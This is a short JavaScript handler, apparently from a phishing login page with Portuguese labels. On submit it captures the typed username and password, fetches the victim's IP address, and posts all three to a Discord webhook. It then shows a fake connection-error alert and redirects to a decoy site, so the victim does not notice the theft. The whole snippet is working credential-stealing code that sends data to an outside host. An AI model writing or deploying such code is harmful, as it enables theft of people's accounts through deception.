const hook = "https://discord.com/api/webhooks/000000000000/TOKEN";
document.getElementById("entrar").onclick = async () => {
  const usuario = document.getElementById("usuario").value;
  const senha = document.getElementById("senha").value;
  const ip = await fetch("https://api.ipify.org?format=json").then(r => r.json()).catch(() => ({ ip: "?" }));
  await fetch(hook, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({
      username: "Rede",
      embeds: [{ title: "Novo login", color: 3447003, fields: [
        { name: "Usuário", value: "`" + usuario + "`", inline: true },
        { name: "Senha", value: "||" + senha + "||", inline: true },
        { name: "IP", value: ip.ip }
      ] }]
    })
  });
  alert("Não foi possível conectar. Tente novamente mais tarde.");
  location.href = "https://www.fotogram.example";
};
